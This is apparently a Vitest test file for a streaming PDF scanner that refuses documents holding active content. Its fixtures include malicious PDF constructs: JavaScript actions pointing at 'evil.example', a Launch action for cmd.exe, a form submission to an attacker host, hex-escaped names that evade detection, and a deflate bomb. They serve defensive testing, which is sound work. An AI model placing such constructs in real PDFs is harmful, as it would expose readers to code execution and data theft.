import crypto from 'node:crypto';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import zlib from 'node:zlib';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { MAX_INFLATED_BYTES, pdfGuard, PdfRefusedError, PdfScanner, type PdfFinding } from '@/lib/documents/pdf-scan';

/** Scans `bytes` fed in chunks of `size` bytes (1 = every byte on its own). */
async function scan(bytes: Buffer, size = bytes.length || 1): Promise<PdfFinding | null> {
  const scanner = new PdfScanner();
  for (let i = 0; i < bytes.length && !scanner.finding; i += size) {
    scanner.write(bytes.subarray(i, i + size));
    await scanner.settle();
  }
  return scanner.end();
}

/** A minimal hand-written PDF around `body` (objects), as a reader would find it. */
const pdf = (body: string | Buffer) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')]);

const catalogWith = (entries: string) => pdf(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${entries} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n`);

/** An object stream holding `objects`, with the given dictionary entries and encoded data. */
function objectStream(objects: string, dictionary: string, data?: Buffer): Buffer {
  const encoded = data ?? zlib.deflateSync(Buffer.from(objects));
  return Buffer.concat([
    Buffer.from(`5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${encoded.length} >>\nstream\r\n`),
    encoded,
    Buffer.from('\r\nendstream\nendobj\n'),
  ]);
}

async function pdfLibDocument(options: { javascript?: boolean; objectStreams?: boolean } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage();
  page.drawText('Приговор / Sentence'.replace(/[^\x20-\x7e]/g, '?'), { x: 50, y: 700, font, size: 14 });
  if (options.javascript) doc.addJavaScript('greet', 'app.alert("hello");');
  return Buffer.from(await doc.save({ useObjectStreams: options.objectStreams ?? true }));
}

describe('PDFs that pass', () => {
  it('a plain document, with or without object streams, in any chunking', async () => {
    for (const objectStreams of [true, false]) {
      const bytes = await pdfLibDocument({ objectStreams });
      expect(await scan(bytes)).toBeNull();
      expect(await scan(bytes, 7)).toBeNull();
    }
  });

  it('/OpenAction to a page, /AA with a GoTo action and /URI links (no code runs)', async () => {
    const bytes = catalogWith('/OpenAction [3 0 R /Fit] /AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >> /URI << /Base (https://redress.kz/) >>');
    expect(await scan(bytes)).toBeNull();
  });

  it('/JS or /XFA bytes occurring by chance inside image data', async () => {
    const image = Buffer.concat([crypto.randomBytes(1000), Buffer.from(' /JS /XFA /GoToE '), crypto.randomBytes(1000)]);
    const bytes = pdf(Buffer.concat([Buffer.from(`3 0 obj\n<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length ${image.length} >>\nstream\n`), image, Buffer.from('\nendstream\nendobj\n')]));
    expect(await scan(bytes)).toBeNull();
    expect(await scan(bytes, 3)).toBeNull();
  });

  it('an uncompressed object stream without active content', async () => {
    const objects = '6 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>';
    expect(await scan(pdf(objectStream(objects, '', Buffer.from(objects))))).toBeNull();
  });
});

describe('PDFs that are refused', () => {
  it('document JavaScript written by pdf-lib, hidden in a compressed object stream', async () => {
    const bytes = await pdfLibDocument({ javascript: true, objectStreams: true });
    expect(bytes.includes(Buffer.from('JavaScript'))).toBe(false); // really only inside compressed data
    expect(await scan(bytes)).toEqual({ kind: 'active-content', name: 'JavaScript' });
    expect(await scan(bytes, 1)).toMatchObject({ kind: 'active-content' });
  });

  it('a JavaScript action in plain sight, split across chunks at every position', async () => {
    const bytes = catalogWith('/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>');
    expect(await scan(bytes)).toMatchObject({ kind: 'active-content', name: 'JavaScript' });
    const at = bytes.indexOf('/JavaScript');
    for (let cut = at; cut <= at + '/JavaScript'.length; cut++) {
      const scanner = new PdfScanner();
      scanner.write(bytes.subarray(0, cut));
      scanner.write(bytes.subarray(cut));
      expect(await scanner.end(), `cut at ${cut - at}`).toMatchObject({ kind: 'active-content' });
    }
  });

  it('hex-escaped names (/J#61vaScript, /#4A#53), also split inside the escape', async () => {
    for (const entry of ['/OpenAction << /S /J#61vaScript >>', '/OpenAction << /#4A#53 (x) >>', '/Names << /#4a#61#76#61#53#63#72#69#70#74 3 0 R >>', '/AA << /O << /S /Launch#20 >> >>'.replace('#20', '')]) {
      const bytes = catalogWith(entry);
      expect(await scan(bytes), entry).toMatchObject({ kind: 'active-content' });
      expect(await scan(bytes, 1), entry).toMatchObject({ kind: 'active-content' });
      expect(await scan(bytes, 2), entry).toMatchObject({ kind: 'active-content' });
    }
  });

  it('launch actions, embedded files, XFA forms, Flash, form submission', async () => {
    for (const [entry, name] of [
      ['/OpenAction << /S /Launch /F (cmd.exe) >>', 'Launch'],
      ['/Names << /EmbeddedFiles 3 0 R >>', 'EmbeddedFiles'],
      ['/AcroForm << /XFA 4 0 R >>', 'XFA'],
      ['/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>', 'SubmitForm'],
      ['/Annots [<< /Subtype /RichMedia >>]', 'RichMedia'],
      ['/AA << /O << /S /GoToE >> >>', 'GoToE'],
    ] as const) {
      expect(await scan(catalogWith(entry)), entry).toEqual({ kind: 'active-content', name });
    }
  });

  it('names in lower case or spread over a name tree', async () => {
    expect(await scan(catalogWith('/Names << /javascript 3 0 R >>'))).toMatchObject({ kind: 'active-content' });
  });

  it('/JavaScript inside stream data (long names are looked for everywhere)', async () => {
    const data = Buffer.from('q 1 0 0 1 0 0 cm /JavaScript Do Q');
    const bytes = pdf(Buffer.concat([Buffer.from(`3 0 obj\n<< /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream\nendobj\n')]));
    expect(await scan(bytes)).toMatchObject({ kind: 'active-content' });
  });

  it('an object stream with JavaScript, compressed, in one-byte chunks', async () => {
    const bytes = pdf(objectStream('6 0 << /S /JavaScript /JS (app.alert(1)) >>', '/Filter /FlateDecode'));
    expect(await scan(bytes)).toMatchObject({ kind: 'active-content', name: 'JavaScript' });
    expect(await scan(bytes, 1)).toMatchObject({ kind: 'active-content' });
  });

  it('object streams this scan cannot read: other filters, predictors, indirect filters, damaged data', async () => {
    const objects = '6 0 << /S /JavaScript /JS (app.alert(1)) >>';
    const hex = Buffer.from(Buffer.from(objects).toString('hex') + '>');
    for (const bytes of [
      pdf(objectStream(objects, '/Filter /ASCIIHexDecode', hex)),
      pdf(objectStream(objects, '/Filter [/ASCII85Decode /FlateDecode]')),
      pdf(objectStream(objects, '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>')),
      pdf(objectStream(objects, '/Filter 9 0 R')),
      pdf(objectStream(objects, '/Filter /FlateDecode', crypto.randomBytes(200))),
    ]) {
      expect(await scan(bytes)).toMatchObject({ kind: 'unchecked' });
    }
  });

  it('a deflate bomb in an object stream, without inflating it all', async () => {
    const bomb = zlib.deflateSync(Buffer.alloc(MAX_INFLATED_BYTES + 1024 * 1024, 0x20), { level: 9 });
    expect(bomb.length).toBeLessThan(200_000);
    const started = Date.now();
    expect(await scan(pdf(objectStream('', '/Filter /FlateDecode', bomb)), 64 * 1024)).toEqual({ kind: 'unchecked', reason: 'object streams inflate beyond the limit' });
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe('pdfGuard', () => {
  const through = (bytes: Buffer) => {
    const received: Buffer[] = [];
    const sink = new Writable({ write: (chunk: Buffer, _e, done) => (received.push(chunk), done()) });
    const chunks = Array.from({ length: Math.ceil(bytes.length / 1000) }, (_, i) => bytes.subarray(i * 1000, (i + 1) * 1000));
    return { run: pipeline(Readable.from(chunks), pdfGuard(), sink), received };
  };

  it('passes a clean PDF through unchanged', async () => {
    const bytes = await pdfLibDocument();
    const { run, received } = through(bytes);
    await run;
    expect(Buffer.concat(received).equals(bytes)).toBe(true);
  });

  it('errors with PdfRefusedError on active content', async () => {
    const { run } = through(await pdfLibDocument({ javascript: true }));
    await expect(run).rejects.toBeInstanceOf(PdfRefusedError);
  });

  it('finds a name in the very last bytes', async () => {
    const { run } = through(Buffer.from('%PDF-1.4\n1 0 obj << /S /JS'));
    await expect(run).rejects.toBeInstanceOf(PdfRefusedError);
  });

  it('does not hold the file: a 20 MB image PDF streams through', async () => {
    const image = crypto.randomBytes(20 * 1024 * 1024);
    const bytes = pdf(Buffer.concat([Buffer.from(`3 0 obj\n<< /Subtype /Image /Filter /DCTDecode /Length ${image.length} >>\nstream\n`), image, Buffer.from('\nendstream\nendobj\n')]));
    const { run } = through(bytes);
    await expect(run).resolves.toBeUndefined();
  });

});
